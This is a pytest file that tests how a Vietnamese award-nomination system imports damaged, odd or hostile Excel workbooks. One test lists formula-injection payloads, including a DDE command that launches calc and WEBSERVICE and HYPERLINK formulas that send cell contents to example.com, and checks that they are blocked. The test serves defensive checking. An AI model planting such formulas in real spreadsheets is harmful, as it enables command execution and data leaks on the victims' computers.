"""Workbooks as they come from anywhere: hostile, damaged, odd. Nothing is guessed or breaks, every no is in words."""

from __future__ import annotations

import unicodedata
from datetime import date, datetime
from io import BytesIO
from uuid import uuid4

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.utils.datetime import CALENDAR_MAC_1904

from nominations.errors import DomainError
from nominations.importing import carrying, headers, planned, reading, taking, workbook
from nominations.importing.rows import Layout
from nominations.models import AwardNomination, ImportBatch, Nominee
from tests.factories import CampaignFactory
from tests.nominations.importing import workbooks
from tests.screens import key, sign_in
from workflows.models import Case

UPLOAD = "/de-nghi/moi/tu-tep/"


def look(by, town, data, **options):
    return taking.look_at(by, town.campaign, data, "danh sach.xlsx", **options)


def problems(found):
    return [(one.row, one.column, one.code) for one in found.problems if one.blocks]


def named(name, **changed):
    """A list of one, called so."""
    return workbooks.people(1, r1={"Họ và tên": name} | changed)


@pytest.mark.parametrize(
    "formula",
    [
        "=cmd|' /C calc'!A0",
        "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "='[http://example.com/x.xlsx]S'!A1",
        "=HYPERLINK(\"http://example.com/\"&B2,\"Thành tích\")",
        "=WEBSERVICE(\"http://example.com/?\"&B2)",
    ],
)  # fmt: skip
def test_a_formula_is_never_computed_and_its_row_waits(town, clerk, award, formula):
    found = look(clerk, town, workbooks.people(2, r1={"Thành tích": formula}))
    assert problems(found) == [(2, "H", "formula_without_value")]
    assert [one.action for one in found.rows] == [planned.BLOCKED, planned.CREATE]


def test_text_that_looks_like_a_formula_goes_out_as_text(client, town, clerk, award):
    book = load_workbook(BytesIO(workbooks.people(1, r1={"Dân tộc": "Kinh tế"})))
    book.active["H2"].value, book.active["H2"].data_type = "=1+1", "s"
    batch = taking.start_import(clerk, town.campaign, workbooks.saved(book), "a.xlsx", uuid4())
    answer = sign_in(client, clerk).get(f"{UPLOAD}{batch.pk}/con-lai/")
    cells = [cell for row in load_workbook(BytesIO(answer.content)).active.iter_rows() for cell in row]
    assert "=1+1" in {cell.value for cell in cells}
    assert {cell.data_type for cell in cells if cell.value is not None} <= {"s", "n"}


def test_a_header_of_three_merged_rows_is_found(town, clerk, award):
    book = Workbook()
    sheet = book.active
    sheet["A1"], sheet["B1"], sheet["C1"], sheet["F1"] = "STT", "Họ và tên", "Lý lịch", "Hình thức khen thưởng"
    sheet["C2"], sheet["E2"], sheet["C3"], sheet["D3"] = "Ngày sinh", "Dân tộc", "Nam", "Nữ"
    for area in ("A1:A3", "B1:B3", "C1:E1", "C2:D2", "E2:E3", "F1:F3"):
        sheet.merge_cells(area)
    sheet.append([1, "Hoàng Văn Thụ", "05/03/1962", None, "Tày", workbooks.AWARD])
    layout = reading.propose_layout(workbook.read(workbooks.saved(book)))
    # "Lý lịch" over all of it names nothing: what is below it does, from the second row on.
    assert layout.bottom == 3
    assert set(layout.columns.values()) >= {"birth_male", "birth_female"}


def test_a_total_in_the_middle_is_passed_over_and_the_list_goes_on(town, clerk, award):
    rows = [workbooks.person(1), ["", "Cộng: 1 người", "", "", "", "", "", ""], workbooks.person(2)]
    found = look(clerk, town, workbooks.plain(rows))
    assert [(one.number, one.action, one.row.skipped) for one in found.rows] == [
        (2, planned.CREATE, ""), (3, planned.SKIPPED, "dòng tổng cộng"), (4, planned.CREATE, ""),
    ]  # fmt: skip


def test_a_hidden_column_is_read_only_when_somebody_says_so(client, town, clerk, award):
    book = load_workbook(BytesIO(workbooks.people(1)))
    book.active.column_dimensions["F"].hidden = True
    data = workbooks.saved(book)
    assert "workplace" not in reading.propose_layout(workbook.read(data)).columns.values()
    batch = taking.start_import(clerk, town.campaign, data, "a.xlsx", uuid4())
    page = sign_in(client, clerk).get(f"{UPLOAD}{batch.pk}/cot/").content.decode()
    assert "Cột F: “Nơi công tác”, đang ẩn trong tệp" in page


def test_what_stands_in_hidden_sheets_and_rows_becomes_nothing(town, clerk, award):
    book = load_workbook(BytesIO(workbooks.people(2)))
    book.active.row_dimensions[2].hidden = True
    hidden = book.create_sheet("Ẩn")
    for row in workbooks.PLAIN, workbooks.person(9):
        hidden.append(list(row))
    hidden.sheet_state = "veryHidden"
    found = look(clerk, town, workbooks.saved(book))
    assert (problems(found), len(found.rows)) == ([(2, "", "hidden_row")], 2)


def test_a_day_as_a_number_counts_from_where_its_workbook_counts(town, clerk, award):
    for epoch, day in ((None, "05/03/1961"), (CALENDAR_MAC_1904, "06/03/1965")):
        book = load_workbook(BytesIO(workbooks.people(1, r1={"Ngày sinh": 22345})))
        if epoch is not None:
            book.epoch = epoch
        found = look(clerk, town, workbooks.saved(book), confirmed=True)
        assert (str(found.rows[0].new.birth), problems(found)) == (day, [])


def test_a_real_date_of_a_1904_workbook_is_that_day(town, clerk, award):
    book = load_workbook(BytesIO(workbooks.people(1)))
    book.epoch = CALENDAR_MAC_1904
    book.active["D2"] = datetime(1962, 3, 25)  # noqa: DTZ001 - Excel knows no time zones
    assert str(look(clerk, town, workbooks.saved(book)).rows[0].new.birth) == "25/03/1962"


def test_dates_that_may_be_american_are_refused_and_not_guessed(town, clerk, award):
    changed = {"r1": {"Ngày sinh": "03/25/1962"}, "r2": {"Ngày sinh": "04/05/1963"}, "r3": {"Ngày sinh": "5/5/1963"}}
    found = look(clerk, town, workbooks.people(3, **changed))
    assert problems(found) == [(2, "D", "date_month_first"), (3, "D", "date_ambiguous")]


@pytest.mark.parametrize(
    "name", ["Y Vinh Tơr", "Hầu A Lềnh", "H’Mông Y Blô", "Giàng A Páo", "Thạch Sô Phia", "Ksor H'Lan"]
)
def test_names_of_minorities_are_taken_as_they_are(town, clerk, award, name):
    found = look(clerk, town, named(name))
    assert (problems(found), found.rows[0].drafted.full_name, found.reading.repairs) == ([], name, [])


@pytest.mark.parametrize(
    ("typed", "name"),
    [
        ("Ðặng Văn Tài", "Đặng Văn Tài"),
        ("Ðào Thị Mai", "Đào Thị Mai"),
        (unicodedata.normalize("NFD", "Hoàng Thị Thuỷ"), "Hoàng Thị Thuỷ"),
        ("  Hoàng\u00a0Thị   Sen ", "Hoàng Thị Sen"),
        ("Hoàng\u200b Thị\ufeff Sen", "Hoàng Thị Sen"),
        ("Hoàng\nThị Sen", "Hoàng Thị Sen"),
    ],
)
def test_one_name_has_one_form_however_it_was_typed(town, clerk, award, typed, name):
    found = look(clerk, town, named(typed))
    assert (problems(found), found.rows[0].drafted.full_name) == ([], name)


@pytest.mark.parametrize("name", ["Hоàng Thị Sen", "Lý Thị Mạ\u0430", "Ηoàng Thị Sen"])
def test_letters_that_only_look_alike_are_named(town, clerk, award, name):
    assert problems(look(clerk, town, named(name))) == [(2, "B", "letter_not_vietnamese")]


@pytest.mark.parametrize("code", ["04", "06", "11", 4])
def test_a_code_of_an_ethnic_group_without_its_list_is_refused(town, clerk, award, code):
    [(row, column, _code)] = problems(look(clerk, town, workbooks.people(1, r1={"Dân tộc": code})))
    assert (row, column) == (2, "E")


def test_of_two_columns_with_one_meaning_the_first_is_proposed_and_both_are_refused(town, clerk, award):
    titles = [*workbooks.PLAIN, "Năm sinh"]
    data = workbooks.plain([[*workbooks.person(1), "1999"]], titles)
    layout = reading.propose_layout(workbook.read(data))
    assert [column for column, name in layout.columns.items() if name == "birth"] == [4]
    batch = taking.start_import(clerk, town.campaign, data, "a.xlsx", uuid4())
    with pytest.raises(DomainError, match="được chọn cho hai cột"):
        taking.match_columns(clerk, batch, Layout(layout.sheet, 1, 1, {**layout.columns, 9: "birth"}))


def test_a_list_without_a_known_header_is_begun_at_its_fullest_row():
    data = workbooks.plain([[], ["Ai", "Khi nào", "Gì"], ["Lành Thị Sen", "1971"]], ["UBND XÃ"])
    assert headers.fullest_row(workbook.read(data)[0]) == 3


@pytest.mark.parametrize(
    ("make", "code"),
    [
        (lambda: workbooks.plain([["x"] * 200], ["Họ và tên"] * 200), "sheet_too_large"),
        (lambda: workbooks.people(300), "sheet_too_large"),
        (lambda: workbooks.saved(Workbook()), "workbook_empty"),
        (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2000, "file_old_office"),
        (lambda: "Họ và tên,Năm sinh\nHoàng Văn Thụ,1960\n".encode(), "file_type"),
    ],
    ids=["200 columns", "one row too many", "empty", "xls", "csv"],
)
def test_what_is_too_large_or_no_workbook_is_refused_in_words(town, clerk, award, monkeypatch, make, code):
    monkeypatch.setattr(workbook, "ROW_LIMIT", 300)
    with pytest.raises(DomainError) as refused:
        look(clerk, town, make())
    assert refused.value.problem.code == code
    assert refused.value.problem.way_out


def test_as_many_rows_as_an_import_takes_are_looked_at(town, clerk, award, monkeypatch):
    monkeypatch.setattr(workbook, "ROW_LIMIT", 300)
    assert len(look(clerk, town, workbooks.people(299)).people) == 299


_values = st.one_of(
    st.none(), st.booleans(), st.integers(-(10**15), 10**15), st.floats(allow_nan=False, allow_infinity=False),
    st.datetimes(datetime(1901, 1, 1), datetime(2100, 1, 1)),  # noqa: DTZ001 - Excel knows no time zones
    st.text(st.characters(exclude_categories=["Cs", "Cc"]), max_size=30),
    st.sampled_from(["x", "Nam", "Tày", "04", "05/03/1962", "13/13/1962", "1.2E+11", "#REF!", "Tổng cộng", "II",
                     "N«ng ThÞ Hµ", "Ñaøo Vaên Tyù", "cá nhân", "tập thể", workbooks.AWARD, "KT-187-00001",
                     "31/02/1950"]),
)  # fmt: skip
_titles = st.lists(
    st.sampled_from(["STT", *(one for words in headers._SYNONYMS.values() for one in words[:2])]),
    min_size=1,
    max_size=8,
)


@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow]
)
@given(titles=_titles, rows=st.lists(st.lists(_values, max_size=8), max_size=6), confirmed=st.booleans())
def test_no_sheet_breaks_the_preview(town, clerk, award, titles, rows, confirmed):
    """Whatever stands in the cells: rows with their problems, or a refusal in words; never a guess, never a crash."""
    data = workbooks.plain(rows, ["Họ và tên", *titles])
    try:
        found = look(clerk, town, data, confirmed=confirmed)
    except DomainError as error:
        if error.problem.code not in ("workbook_empty", "columns_not_matched"):
            raise
        return
    assert len(found.people) == len([one for one in found.rows if not one.row.skipped])
    for one in found.people:
        assert one.is_ready != any(problem.blocks for problem in one.problems)
        assert all(problem.message for problem in one.problems)


@settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    rows=st.lists(
        st.tuples(
            st.sampled_from(["Hoàng", "Nông", "Hầu", "Y"]), st.sampled_from(["A", "Văn", "Thị"]),
            st.sampled_from(["Lềnh", "Thuỷ", "Tơr", "Quý"]), st.dates(date(1940, 1, 1), date(2000, 1, 1)),
        ),
        min_size=1, max_size=5, unique_by=lambda row: (row[:3], row[3]),
    )
)  # fmt: skip
def test_a_list_that_comes_again_changes_nothing(town, clerk, award, rows):
    data = workbooks.plain(
        [[" ".join(row[:3]), f"{row[3]:%d/%m/%Y}", workbooks.AWARD, "Hiến đất."] for row in rows],
        ["Họ và tên", "Ngày sinh", "Hình thức khen thưởng", "Thành tích"],
    )
    # Each list is for a movement of its own: the lists before it are none of its business.
    campaign = CampaignFactory(area=town.district)
    found = taking.look_at(clerk, campaign, data, "a.xlsx")
    assert {one.action for one in found.rows} <= {planned.CREATE, planned.BLOCKED}
    batch = taking.start_import(clerk, campaign, data, "a.xlsx", uuid4())
    ready = [one.number for one in found.ready]
    if ready:
        carrying.carry_out(clerk, batch, limit=None)
    again = taking.look_at(clerk, campaign, data, "a.xlsx")
    assert [one.action for one in again.rows if one.number in ready] == [planned.UNCHANGED] * len(ready)


def test_from_the_template_to_the_dossiers_and_back_nothing_changes(client, town, clerk, award):
    """Template, filled, imported, taken away with the codes, imported again."""
    sign_in(client, clerk)
    book = load_workbook(BytesIO(client.get(f"{UPLOAD}mau/").content))
    sheet = book["Danh sách"]
    for row, values in enumerate(
        (
            [1, "Hầu A Lềnh", "cá nhân", "Nam", "05/03/1971", "020071001234", "Mông", "Trưởng thôn", "Thôn Khun Phang",
             "Thôn Khun Phang", "", "", "", award.title_vi, "Hiến 300 m² đất.", "Vận động nhân dân.", ""],
            [2, "Nông Thị Hà", "cá nhân", "Nữ", "1962", "", "Tày", "", "", "", "", "", "", award.title_vi,
             "Dòng một\nDòng hai", "", ""],
            [3, "Thôn Làng Mới", "tập thể", "", "", "", "", "", "", "Thôn Làng Mới", "Trần Văn Quý", 120, 58,
             award.title_vi, "Không có hộ nghèo mới.", "", "Thôn có 120 hộ."],
            [4, "Hộ ông Lê Văn Tài", "hộ gia đình", "", "", "", "", "", "", "Thôn Mẫu", "Lê Văn Tài", 5, "",
             award.title_vi, "Hiến đất.", "", "Hộ làm nông nghiệp."],
        ),
        start=2,
    ):  # fmt: skip
        for column, value in enumerate(values, start=1):
            sheet.cell(row, column, value or None)
    first = taking.start_import(clerk, town.campaign, workbooks.saved(book), "mau.xlsx", uuid4())
    assert carrying.carry_out(clerk, first, limit=None).finished
    assert carrying.numbers(first)["created"] == 4
    before = [list(model.objects.order_by("pk").values()) for model in (Nominee, AwardNomination, Case)]
    taken = client.get(f"{UPLOAD}{first.pk}/con-lai/?dong=da-nhap").content
    # Neither ethnicity nor number is in it.
    assert not {"Mông", "020071001234"} & {
        cell.value for line in load_workbook(BytesIO(taken)).active.iter_rows() for cell in line
    }
    again = taking.start_import(clerk, town.campaign, taken, "da-nhap.xlsx", uuid4())
    found = taking.preview(clerk, again)
    assert [(one.action, one.nominee_changes, one.nomination_changes) for one in found.people] == [
        (planned.UNCHANGED, {}, {})
    ] * 4
    assert carrying.carry_out(clerk, again, limit=None).finished
    assert [list(model.objects.order_by("pk").values()) for model in (Nominee, AwardNomination, Case)] == before
    assert ImportBatch.objects.count() == 2


def test_what_was_corrected_in_the_list_that_was_taken_away_is_corrected(client, town, clerk, award):
    first = taking.start_import(clerk, town.campaign, workbooks.people(3), "a.xlsx", uuid4())
    carrying.carry_out(clerk, first, limit=None)
    taken = sign_in(client, clerk).get(f"{UPLOAD}{first.pk}/con-lai/?dong=da-nhap").content
    book = load_workbook(BytesIO(taken))
    book.active.cell(5, 1).value = "Lý Văn Năm"
    page = client.post(UPLOAD, {
        "capacity": key(clerk), "command": str(uuid4()), "campaign": town.campaign.pk,
        "file": BytesFile(workbooks.saved(book)),
    })  # fmt: skip
    preview = client.get(page.url).context["preview"]
    assert [one.action for one in preview.people] == [planned.UNCHANGED, planned.UPDATE, planned.UNCHANGED]


def BytesFile(data):
    file = BytesIO(data)
    file.name = "da-nhap.xlsx"
    return file
